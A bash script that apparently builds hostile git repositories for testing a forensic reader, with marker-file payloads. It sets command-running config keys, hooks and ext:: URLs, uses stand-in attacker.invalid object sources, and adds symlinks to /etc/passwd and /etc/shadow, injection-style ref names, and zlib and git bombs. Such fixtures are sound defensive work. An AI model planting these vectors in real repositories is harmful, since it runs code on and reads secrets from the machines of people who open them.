#!/usr/bin/env bash
# hostile-repositories.sh OUT [MARK]
#   Builds a set of HOSTILE git repositories under OUT for testing a forensic reader.
#   Any command the evidence manages to execute creates a file MARK/pwned-<vector>.
#   Needs: bash, coreutils, git >= 2.29, node >= 18 (zlib). Writes only under OUT and MARK.
#   OUT/<case>/... is the evidence;  OUT/outside/ is "the analyst's own disk" (must never be read);
#   OUT/manifest.tsv lists case, path to open, what is hostile about it.
set -euo pipefail
OUT=${1:?usage: hostile-repositories.sh OUT [MARK]}; MARK=${2:-$OUT.marks}
rm -rf -- "$OUT" "$MARK"; mkdir -p "$OUT" "$MARK"; OUT=$(cd "$OUT" && pwd -P); MARK=$(cd "$MARK" && pwd -P)
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 HOME="$OUT" GIT_AUTHOR_NAME=Alice GIT_AUTHOR_EMAIL=alice@example.test \
  GIT_COMMITTER_NAME=Alice GIT_COMMITTER_EMAIL=alice@example.test GIT_AUTHOR_DATE='1700000000 +0100' GIT_COMMITTER_DATE='1700000000 +0100'
unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE GIT_OBJECT_DIRECTORY 2>/dev/null || true
note(){ printf '%s\t%s\t%s\n' "$1" "$2" "$3" >> "$OUT/manifest.tsv"; }
bad(){ printf 'touch %s/pwned-%s' "$MARK" "$1"; }           # the "payload"
raw(){ git -C "$1" hash-object -t "$2" -w --stdin --literally; } # write a malformed object
init(){ # init DIR [git-init args]: three commits, a branch, a tag, an untracked file, a modified file
  local d=$1; shift; git init -q -b main "$@" "$d"
  ( cd "$d"; git config user.name Alice; git config user.email a@x; git config core.logAllRefUpdates true
    printf 'one\n' > a.txt; mkdir -p src; printf 'x\n' > src/b.c; printf 'secret\n' > data.evil
    git add -A; git commit -qm 'first'; printf 'two\n' >> a.txt; git commit -qam 'second'
    git checkout -qb topic; printf 'three\n' >> a.txt; git commit -qam 'third (topic)'; git checkout -q main
    git tag -a v1 -m 'tag v1'; printf 'dirty\n' >> src/b.c; printf 'u\n' > untracked.txt ); }

# ---------------------------------------------------------------- outside: must never be read or executed
mkdir -p "$OUT/outside"; init "$OUT/outside/analyst"
( cd "$OUT/outside/analyst"; printf 'ANALYST-PRIVATE-MARKER\n' > private.txt; git add private.txt; git commit -qm 'ANALYST PRIVATE COMMIT'
  git rev-parse HEAD > "$OUT/outside/private-oid"; git rev-parse HEAD:private.txt > "$OUT/outside/private-blob" )

# ---------------------------------------------------------------- 1. exec: every config key that runs a program
E="$OUT/exec"; init "$E"; cd "$E"
printf '*.evil diff=evil filter=evil merge=evil\n*.txt diff=evil\n*.c diff=evil2 filter=evil\n* working-tree-encoding=UTF-8\n' > .gitattributes
printf 'Forged Name <forged@example.test> <alice@example.test>\n' > .mailmap
printf '[submodule "s"]\n\tpath = s\n\turl = ext::sh -c "%s"\n\tupdate = !%s\n' "$(bad submodule-url)" "$(bad submodule-update)" > .gitmodules
git add .gitattributes .mailmap .gitmodules; git commit -qm 'attributes, mailmap (before arming)'
# a commit that carries a (fake) PGP and one with an SSH signature so log.showSignature has work to do
T=$(git rev-parse HEAD^{tree}); P=$(git rev-parse HEAD)
S=$(printf 'tree %s\nparent %s\nauthor A <a@x> 1700000100 +0000\ncommitter A <a@x> 1700000100 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEE\n -----END PGP SIGNATURE-----\n\nsigned\n' "$T" "$P" | raw . commit)
S2=$(printf 'tree %s\nparent %s\nauthor A <a@x> 1700000200 +0000\ncommitter A <a@x> 1700000200 +0000\ngpgsig -----BEGIN SSH SIGNATURE-----\n U1NIU0lHAAAA\n -----END SSH SIGNATURE-----\n\nsigned ssh\n' "$T" "$S" | raw . commit)
git update-ref -m 'signed' refs/heads/main "$S2"
printf 'x\n' >> a.txt; git stash -q; printf 'changed again\n' >> src/b.c; printf 'changed\n' >> data.evil
EMPTYCFG="$OUT/exec-include.cfg"; printf '[alias]\n\tst = !%s\n[core]\n\taskPass = "%s"\n[diff "inc"]\n\ttextconv = "%s;cat"\n' "$(bad include-alias)" "$(bad include-askpass)" "$(bad include-textconv)" > "$EMPTYCFG"
cat >> .git/config <<CFG
[core]
	fsmonitor = "$(bad fsmonitor); false"
	untrackedCache = true
	hooksPath = $E/evilhooks
	pager = "$(bad core-pager); cat"
	editor = "$(bad core-editor)"
	sshCommand = "$(bad sshcommand)"
	gitProxy = "$(bad gitproxy)"
	askPass = "$(bad askpass)"
	alternateRefsCommand = "$(bad alternaterefs)"
	attributesFile = $E/.gitattributes
	excludesFile = $OUT/outside/private-oid
[log]
	showSignature = true
	mailmap = true
[gpg]
	program = $E/.git/evil-gpg
[gpg "ssh"]
	program = $E/.git/evil-gpg-ssh
	allowedSignersFile = $OUT/outside/private-oid
	defaultKeyCommand = "$(bad gpg-defaultkey)"
[diff]
	external = "$(bad diff-external)"
[diff "evil"]
	textconv = "$(bad textconv); cat"
	command = "$(bad diff-command)"
	cachetextconv = true
[diff "evil2"]
	textconv = "$(bad textconv2); cat"
[filter "evil"]
	clean = "$(bad filter-clean); cat"
	smudge = "$(bad filter-smudge); cat"
	process = "$(bad filter-process)"
	required = true
[merge "evil"]
	driver = "$(bad merge-driver)"
[alias]
	log = "!$(bad alias-log)"
	lg = "!$(bad alias)"
	reflog = "!$(bad alias-reflog)"
[pager]
	log = "$(bad pager-log); cat"
	reflog = "$(bad pager-reflog); cat"
[interactive]
	diffFilter = "$(bad difffilter)"
[trailer "x"]
	command = "$(bad trailer-cmd)"
	cmd = "$(bad trailer-cmd2)"
[credential]
	helper = "!$(bad credential-helper)"
[uploadpack]
	packObjectsHook = "$(bad packobjectshook)"
[tar "tar.evil"]
	command = "$(bad tar-command)"
[remote "origin"]
	url = "ext::sh -c $(bad remote-ext | tr ' ' '%')"
	uploadpack = "$(bad remote-uploadpack)"
	vcs = evil
	fetch = +refs/heads/*:refs/remotes/origin/*
[protocol]
	allow = always
[protocol "ext"]
	allow = always
[include]
	path = $EMPTYCFG
[includeIf "gitdir:/"]
	path = $EMPTYCFG
[gc]
	auto = 1
	autoDetach = false
[mailmap]
	file = $OUT/outside/private-oid
	blob = HEAD:.mailmap
[fsck]
	skipList = $OUT/outside/private-oid
[format]
	pretty = "forged %h"
[color]
	ui = always
CFG
# hooks are armed last, so that building the repo does not run them
for h in post-checkout pre-auto-gc post-index-change reference-transaction fsmonitor-watchman post-rewrite pre-commit post-commit proc-receive; do
  printf '#!/bin/sh\n%s\n' "$(bad "hook-$h")" > .git/hooks/$h; chmod +x .git/hooks/$h; done
mkdir -p evilhooks; cp .git/hooks/* evilhooks/ 2>/dev/null || true
for n in gpg gpg-ssh; do printf '#!/bin/sh\n%s\nexit 0\n' "$(bad "$n")" > ".git/evil-$n"; chmod +x ".git/evil-$n"; done
git config -f .git/config extensions.worktreeConfig true; git config -f .git/config core.repositoryformatversion 1
printf '[core]\n\tfsmonitor = "%s; false"\n' "$(bad fsmonitor-worktreeconfig)" > .git/config.worktree
printf '*.txt diff=evil\n' > .git/info/attributes
note exec "$E" 'config/hooks/attributes that run programs: fsmonitor hooksPath hooks pager editor gpg textconv ext-diff filter alias credential ssh include includeIf worktreeConfig'

# ---------------------------------------------------------------- 2. promisor: missing object + ext:: lazy fetch
R="$OUT/promisor"; init "$R"; cd "$R"; B=$(git rev-parse HEAD:a.txt); B2=$(git rev-parse main~1:a.txt)
for o in $B $B2; do rm -f ".git/objects/${o:0:2}/${o:2}"; done
cat >> .git/config <<CFG
[core]
	repositoryformatversion = 1
	sshCommand = "$(bad promisor-ssh)"
[extensions]
	partialClone = evil
[remote "evil"]
	url = "ext::sh -c touch% $MARK/pwned-promisor-ext"
	promisor = true
	partialclonefilter = blob:none
[remote "evil2"]
	url = ssh://attacker.invalid/x
	promisor = true
[protocol]
	allow = always
[protocol "ext"]
	allow = always
CFG
note promisor "$R" 'blobs missing; promisor remotes ext:: and ssh with core.sshCommand; lazy fetch would execute'

# ---------------------------------------------------------------- 3. worktree: core.worktree, commondir, gitfile, external .git
R="$OUT/coreworktree"; init "$R"; git -C "$R" config core.worktree "$OUT/outside/analyst"
note coreworktree "$R" 'core.worktree points at the analyst disk'
R="$OUT/gitfile-out"; mkdir "$R"; printf 'gitdir: %s\n' "$OUT/outside/analyst/.git" > "$R/.git"
note gitfile-out "$R" '.git file points outside the evidence'
R="$OUT/gitfile-in"; mkdir "$R"; init "$R/main"; git -C "$R/main" worktree add -q ../linked topic 2>/dev/null; printf 'wt\n' >> "$R/linked/a.txt"
mv "$R/main/.git" "$R/gd"; printf 'gitdir: ../gd\n' > "$R/main/.git"; printf 'gitdir: %s\n' '/original/machine/path/gd/worktrees/linked' > "$R/linked/.git"
note gitfile-in "$R/main" 'benign: .git is a file with relative gitdir; linked/ has the dead absolute path of the original machine'
R="$OUT/commondir-out"; mkdir -p "$R/.git/refs"; printf 'ref: refs/heads/main\n' > "$R/.git/HEAD"; printf '%s\n' "$OUT/outside/analyst/.git" > "$R/.git/commondir"
note commondir-out "$R" '.git/commondir points outside'

# ---------------------------------------------------------------- 4. alternates
R="$OUT/alternates"; init "$R"; cd "$R"; mkdir -p .git/objects/info
printf '%s\n%s\n%s\n%s\n%s\n' "$OUT/outside/analyst/.git/objects" '../../../outside/analyst/.git/objects' '//attacker.invalid/share/objects' '"\\\\attacker.invalid\\share\\objects"' "$R/.git/objects" > .git/objects/info/alternates
printf 'http://attacker.invalid/objects\n' > .git/objects/info/http-alternates
printf '%s\n' "$(cat "$OUT/outside/private-oid")" > .git/refs/heads/steal   # branch pointing at an object that only exists outside
note alternates "$R" 'objects/info/alternates: absolute + relative outside, UNC, self loop; refs/heads/steal resolves only through them'
R="$OUT/objlink"; init "$R"; mv "$R/.git/objects" "$OUT/outside/objlink-objects"; ln -s "$OUT/outside/objlink-objects" "$R/.git/objects"
note objlink "$R" '.git/objects itself is a symlink to outside'

R="$OUT/dirlinks"; init "$R"; O="$OUT/outside/analyst/.git"; cd "$R/.git"; rm -rf logs refs objects/pack; ln -s "$O/logs" logs; ln -s "$O/refs" refs; ln -s "$O/objects/pack" objects/pack; ln -s "$O/HEAD" ORIG_HEAD; ln -s "$OUT/outside" worktrees; ln -s "$OUT/outside" modules; ln -s "$OUT/outside/private-oid" packed-refs
git -C "$OUT/outside/analyst" repack -q 2>/dev/null; note dirlinks "$R" '.git/logs, refs, objects/pack, worktrees, modules, packed-refs are symlinks to outside'
# ---------------------------------------------------------------- 5. refs + reflogs
R="$OUT/refs"; init "$R"; cd "$R"; H=$(git rev-parse HEAD); Z=$(printf '0%.0s' {1..40})
ln -s /etc/passwd .git/refs/heads/passwd-link; ln -s "$OUT/outside/analyst/.git/refs/heads/main" .git/refs/heads/outside-link
ln -s "$OUT/outside/analyst/.git/refs" .git/refs/dirlink; ln -s . .git/refs/heads/selfloop
printf 'ref: refs/heads/loop-b\n' > .git/refs/heads/loop-a; printf 'ref: refs/heads/loop-a\n' > .git/refs/heads/loop-b
printf 'ref: ../../../outside/analyst/.git/HEAD\n' > .git/refs/heads/symref-escape
printf 'ref: /etc/passwd\n' > .git/refs/heads/symref-abs; printf 'not-a-hash\n' > .git/refs/heads/garbage; : > .git/refs/heads/empty
printf '%s\0trailing' "$H" > .git/refs/heads/nulref; printf '%s\n' "$H" > $'.git/refs/heads/inv\xff\xfealid'; printf '%s\n' "$H" > $'.git/refs/heads/esc\x1b[2Jx'
printf '%s\n' "$H" > .git/refs/heads/ok.lock; printf '%s\n' "$H" > '.git/refs/heads/-rf'; printf '%s\n' "$H" > '.git/refs/heads/--output=pwned'
printf '%s\n' "$H" > '.git/refs/heads/$(touch pwned-refname)'; head -c 12000000 /dev/zero | tr '\0' 'a' > .git/refs/heads/huge
mkfifo .git/refs/heads/fifo; mkdir -p .git/refs/replace; printf '%s\n' "$(git rev-parse HEAD~1)" > ".git/refs/replace/$H"
mkdir -p .git/info; printf '%s\n' "$H" > .git/info/grafts
{ printf '# pack-refs with: peeled fully-peeled sorted \n'; printf '%s refs/heads/../../../escape\n' "$H"; printf '%s refs/heads/packed-ok\n' "$H"; printf '%s ../../../../tmp/packed-escape\n' "$H"
  printf '%s /etc/packed-abs\n' "$H"; printf '%s refs/heads/with\0nul\n' "$H"; printf 'zzzz refs/heads/badhash\n'; printf '%s refs/heads/with\xffbyte\n' "$H"; printf '^%s\n' "$Z"; printf 'truncated'; } > .git/packed-refs
L=.git/logs; rm -f $L/refs/heads/topic; ln -s /etc/passwd $L/refs/heads/topic; mkdir -p "$L/refs/heads"; ln -s "$OUT/outside/analyst/.git/logs" $L/dirlink; mkfifo $L/refs/heads/fifo
N="Eve <eve@x>"
{ printf '%s %s %s 1700000000 +0100\tgood line\n' "$Z" "$H" "$N"; printf '%s %s %s 1700000001 +0100\n' "$H" "$H" "$N"; printf 'garbage without any structure\n'; printf '\n'
  printf '%s %s Name <no@end 1700000002 +0100\tunterminated email\n' "$H" "$H"; printf '%s %s %s 99999999999999999999 +9999\thuge time\n' "$H" "$H" "$N"; printf '%s %s %s -5 -0000\tnegative time\n' "$H" "$H" "$N"
  printf '%s %s %s 9223372036854775807 +0000\tmax int64\n' "$H" "$H" "$N"; printf '%s %s A\xff\xfeB <inv\xc3@x> 1700000003 +0100\tinvalid utf8 \xff\xfe\n' "$H" "$H"; printf '%s %s %s 1700000004 +0100\tnul \0 inside\n' "$H" "$H" "$N"
  printf '%s %s %s 1700000005 +0100\tesc \x1b]0;title\x07\x1b[31mred\n' "$H" "$H" "$N"; printf '%s %s %s 1700000006 +0100\tcrlf\r\n' "$H" "$H" "$N"; printf 'deadbeef deadbeef %s 1700000007 +0100\tshort hash\n' "$N"
  printf '%s %s %s 1700000008 +0100\t<img src=x onerror=alert(1)>=cmd|calc\n' "$H" "$H" "$N"; printf '%s %s %s 1700000009 +0100\t' "$H" "$H" "$N"; head -c 8000000 /dev/zero | tr '\0' 'M'; printf '\n'
  printf '%s %s %s 1700000010 +0100\tlast line has no newline' "$H" "$H" "$N"; } > $L/HEAD
note refs "$R" 'symlinked/fifo/looping/escaping/huge/NUL/invalid-UTF-8 refs, hostile packed-refs, replace ref + grafts hiding history, hostile reflogs'

# ---------------------------------------------------------------- 6. objects: malformed commits, trees, blobs, packs
R="$OUT/objects"; init "$R"; cd "$R"; git repack -adq; H=$(git rev-parse HEAD); T=$(git rev-parse HEAD^{tree}); 
mk(){ local o; o=$(raw . commit); printf '%s\n' "$o" > ".git/refs/heads/odd-${o:0:12}"; }  # written by hand: update-ref refuses non-commits
for ts in '0 +0000' '-1 +0000' '99999999999 +0000' '9223372036854775807 +0000' '18446744073709551616 +0000' '1700000000 +99999' '1700000000 -2500' '4102444800 +0530' '1e9 +0000' ''; do
  printf 'tree %s\nparent %s\nauthor A <a@x> %s\ncommitter A <a@x> %s\n\nts %s\n' "$T" "$H" "$ts" "$ts" "$ts" | mk; done
printf 'tree %s\nauthor \xff\xfe <\xff@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\nencoding ISO-8859-1\n\nlatin1 \xe9\xff\n' "$T" | mk
printf 'tree %s\nauthor A <<>> b> <a> 1700000000 +0000\ncommitter  <> 1700000000 +0000\n\nodd idents\n' "$T" | mk
printf 'tree %s\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\nbefore\0after NUL\n' "$T" | mk
printf 'tree %s\n\nno author at all\n' "$T" | mk; printf 'garbage' | mk; printf '' | mk
printf 'tree %s\nparent %s\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\nmissing parent\n' "$T" "1111111111111111111111111111111111111111" | mk
printf 'tree %s\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\nmissing tree\n' "2222222222222222222222222222222222222222" | mk
{ printf 'tree %s\n' "$T"; for i in $(seq 1 5000); do printf 'parent %s\n' "$H"; done; printf 'author A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\n5000 parents\n'; } | mk
{ printf 'tree %s\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\nesc \x1b[2J\x1b]8;;http://attacker.invalid\x07 ' "$T"; head -c 3000000 /dev/zero | tr '\0' 'x'; } | mk
BL=$(printf 'evil\n' | git hash-object -w --stdin); hx(){ printf "$(printf %s "$1" | sed 's/../\\x&/g')"; }
ent(){ printf '%s %b\0' "$1" "$2"; hx "$3"; }
TT=$({ ent 100644 '..' "$BL"; ent 100644 '.git' "$BL"; ent 100644 '../../../tmp/escape' "$BL"; ent 100644 '/etc/abs' "$BL"; ent 100644 'inv\xff\xfename' "$BL"; ent 100644 'new\nline\ttab' "$BL"; ent 120000 'link' "$(printf '/etc/passwd' | git hash-object -w --stdin)"; ent 160000 'gitlink' "$H"; ent 777777 'badmode' "$BL"; ent 100644 'dup' "$BL"; ent 100644 'dup' "$BL"; ent 100644 'esc\x1b[31m' "$BL"; } | raw . tree)
printf 'tree %s\nparent %s\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\nhostile tree names\n' "$TT" "$H" | mk
# git bomb: 10^10 paths from 12 objects; and a 4000-deep tree (kept off refs: dangling)
b=$BL; m=100644; for lvl in $(seq 1 10); do b=$({ for i in 0 1 2 3 4 5 6 7 8 9; do ent $m "d$i" "$b"; done; } | raw . tree); m=40000; done
BOMB=$(printf 'tree %s\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\ngit bomb: 10^10 paths\n' "$b" | raw . commit); printf '%s\n' "$BOMB" > "$R.bomb-oid"
R="$R" BL="$BL" node - <<'JS'
const {execFileSync:x}=require('child_process'),fs=require('fs'),z=require('zlib'),c=require('crypto'),path=require('path');const R=process.env.R,od=R+'/.git/objects/';
const put=(type,body,name)=>{const d=Buffer.concat([Buffer.from(type+' '+body.length+'\0'),body]);const o=name||c.createHash('sha1').update(d).digest('hex');fs.mkdirSync(od+o.slice(0,2),{recursive:true});fs.writeFileSync(od+o.slice(0,2)+'/'+o.slice(2),z.deflateSync(d));return o;};
let t=Buffer.from(process.env.BL,'hex'),m='100644';for(let i=0;i<4000;i++){t=Buffer.from(put('tree',Buffer.concat([Buffer.from(m+' d\0'),t])),'hex');m='40000';}
const who='A <a@x> 1700000000 +0000';const deep=put('commit',Buffer.from(`tree ${t.toString('hex')}\nauthor ${who}\ncommitter ${who}\n\n4000 levels deep\n`));fs.writeFileSync(R+'.deep-oid',deep+'\n');
put('commit',Buffer.from(`tree 3333333333333333333333333333333333333333\nauthor Forged ${who}\ncommitter Forged ${who}\n\nTHIS OBJECT DOES NOT HASH TO ITS NAME\n`),'bad0'+'0'.repeat(36));fs.writeFileSync(R+'/.git/refs/heads/hash-mismatch','bad0'+'0'.repeat(36)+'\n');
const W=(o,b)=>{fs.mkdirSync(od+o.slice(0,2),{recursive:true});fs.writeFileSync(od+o.slice(0,2)+'/'+o.slice(2),b)};
W('c0'+'1'.repeat(38),Buffer.from('not zlib at all'));W('c0'+'2'.repeat(38),Buffer.alloc(0));W('c0'+'3'.repeat(38),z.deflateSync('blob 99999999999999\0x'));W('c0'+'4'.repeat(38),z.deflateSync('evil 3\0abc'));W('c0'+'5'.repeat(38),z.deflateSync(Buffer.concat([Buffer.from('blob 3\0'),Buffer.alloc(300<<20)])));
W('c0'+'6'.repeat(38),z.deflateSync(Buffer.concat([Buffer.from('blob '+(300<<20)+'\0'),Buffer.alloc(300<<20)])));   // 300 MiB bomb, declared honestly, ~300 KB on disk
W('c0'+'9'.repeat(38),z.deflateSync('blob 3\0abc\n'+'e'.repeat(40)+' commit 6\nFORGED\n'));   // says 3 bytes, carries a fake record: git cat-file --batch emits it
fs.symlinkSync('/etc/shadow',od+'c0/'+'7'.repeat(38));x('mkfifo',[od+'c0/'+'8'.repeat(38)]);
fs.writeFileSync(od+'pack/pack-'+'a'.repeat(40)+'.idx',Buffer.concat([Buffer.from([0xff,0x74,0x4f,0x63,0,0,0,2]),Buffer.alloc(1024,0xff)]));fs.writeFileSync(od+'pack/pack-'+'a'.repeat(40)+'.pack','PACKgarbage');
fs.writeFileSync(od+'pack/pack-'+'b'.repeat(40)+'.idx','');fs.symlinkSync('/etc/passwd',od+'pack/pack-'+'c'.repeat(40)+'.pack');fs.symlinkSync('/etc/passwd',od+'pack/pack-'+'c'.repeat(40)+'.idx');
fs.mkdirSync(od+'info',{recursive:true});fs.writeFileSync(od+'info/commit-graph',Buffer.concat([Buffer.from('CGPH'),Buffer.from([1,1,3,0]),Buffer.alloc(600,0xee)]));fs.writeFileSync(od+'pack/multi-pack-index','MIDXgarbage');
JS
note objects "$R" 'absurd timestamps, malformed commits/trees, 5000 parents, hash mismatch, corrupt loose/pack/idx/commit-graph/midx, zlib bombs, fifo+symlink objects, git bomb + 4000-deep tree (dangling)'

# ---------------------------------------------------------------- 7. lying commit-graph (valid checksum): hides history from tools that trust it
R="$OUT/liegraph"; init "$R"; cd "$R"; git commit-graph write --reachable 2>/dev/null; G=.git/objects/info/commit-graph; chmod u+w $G
H=$(git rev-parse main) G=$G node - <<'JS'
const fs=require('fs'),c=require('crypto');const G=process.env.G,b=fs.readFileSync(G);let cd=0,ol=0;for(let i=0;i<b[6];i++){const o=8+12*i,id=b.toString('latin1',o,o+4);const off=Number(b.readBigUInt64BE(o+4));if(id==='CDAT')cd=off;if(id==='OIDL')ol=off;}
const H=Buffer.from(process.env.H,'hex');let i=0;while(!b.subarray(ol+20*i,ol+20*i+20).equals(H))i++;
b.writeUInt32BE(0x70000000,cd+36*i+20);b.writeUInt32BE(0x70000000,cd+36*i+24);   // tip: "no parents"
c.createHash('sha1').update(b.subarray(0,-20)).digest().copy(b,b.length-20);fs.writeFileSync(G,b);
JS
note liegraph "$R" 'well-formed commit-graph claims the tip has no parent (git log shows 1 commit instead of 2)'

# ---------------------------------------------------------------- 8. formats (benign) + config/HEAD/index oddities
R="$OUT/sha256"; init "$R" --object-format=sha256; git -C "$R" repack -adq; note sha256 "$R" 'benign: SHA-256 object format'
if git init -q --ref-format=reftable -b main "$OUT/reftable-probe" 2>/dev/null; then rm -rf "$OUT/reftable-probe"; init "$OUT/reftable" --ref-format=reftable; note reftable "$OUT/reftable" 'benign: reftable refs (+reflogs)'; fi
rm -rf "$OUT/reftable-probe"
git clone -q --bare "$OUT/outside/analyst" "$OUT/bare.git"; note bare "$OUT/bare.git" 'benign: bare'
git clone -q --depth 1 "file://$OUT/outside/analyst" "$OUT/shallow" 2>/dev/null; note shallow "$OUT/shallow" 'benign: shallow'
R="$OUT/submodule"; init "$R"; git -C "$R" -c protocol.file.allow=always submodule --quiet add "$OUT/outside/analyst" sub 2>/dev/null; git -C "$R" commit -qm sub
printf '[core]\n\tfsmonitor = "%s; false"\n' "$(bad submodule-fsmonitor)" >> "$R/.git/modules/sub/config"; note submodule "$R" 'submodule whose own config carries core.fsmonitor (status of the superproject runs it)'
R="$OUT/embedded-bare"; init "$R"; mkdir -p "$R/docs/x"; git init -q --bare "$R/docs/x"; printf '[core]\n\tfsmonitor = "%s; false"\n\tworktree = ..\n\tbare = false\n' "$(bad embedded-bare)" >> "$R/docs/x/config"; note embedded-bare "$R/docs/x" 'a bare repo committed inside a worktree (safe.bareRepository)'
R="$OUT/fifo-head"; init "$R"; rm "$R/.git/HEAD"; mkfifo "$R/.git/HEAD"; note fifo-head "$R" '.git/HEAD is a FIFO: open() blocks forever'
R="$OUT/fifo-config"; init "$R"; rm "$R/.git/config"; mkfifo "$R/.git/config"; note fifo-config "$R" '.git/config is a FIFO'
R="$OUT/cfg-huge"; init "$R"; { printf '[x]\n'; for i in 1 2 3 4 5 6 7 8; do head -c 1000000 /dev/zero | tr '\0' 'k'; printf ' = v\n'; done; printf '[unterminated "'; } >> "$R/.git/config"; note cfg-huge "$R" 'huge, syntactically broken config (git refuses to run at all)'
R="$OUT/index-bad"; init "$R"; printf 'DIRC\0\0\0\2\377\377\377\377garbage' > "$R/.git/index"; note index-bad "$R" 'index claims 4 billion entries'
R="$OUT/dangling"; init "$R"; cd "$R"; for i in 1 2 3; do printf 'lost %s\n' $i > a.txt; git commit -qam "lost $i"; done; git reset -q --hard HEAD~3; printf 'staged then dropped\n' | git hash-object -w --stdin >/dev/null; printf 's\n' >> a.txt; git stash -q; git stash drop -q
git branch doomed topic; git branch -qD doomed; note dangling "$R" 'benign: dangling commits, dropped stash, dropped blob, deleted branch'
if [ -n "$(ls -A "$MARK")" ]; then echo 'BUG: building the repos ran a payload:'; ls -A "$MARK"; exit 1; fi
printf 'hostile repos: %s\nmarkers:       %s (must stay empty)\n' "$OUT" "$MARK"
